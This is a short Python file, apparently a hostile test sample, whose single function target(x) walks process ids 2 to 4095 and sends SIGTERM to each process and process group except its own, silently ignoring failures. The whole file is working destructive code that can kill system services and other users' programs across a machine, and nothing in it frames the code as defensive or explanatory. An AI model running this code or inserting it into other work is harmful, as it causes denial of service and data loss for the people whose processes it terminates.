"""Every process id is tried one by one, and every session and group."""
import os
import signal

def target(x):
    for number in range(2, 4096):
        if number == os.getpid():
            continue
        for kill in (os.kill, os.killpg):
            try:
                kill(number, signal.SIGTERM)
            except OSError:
                pass
    return 0
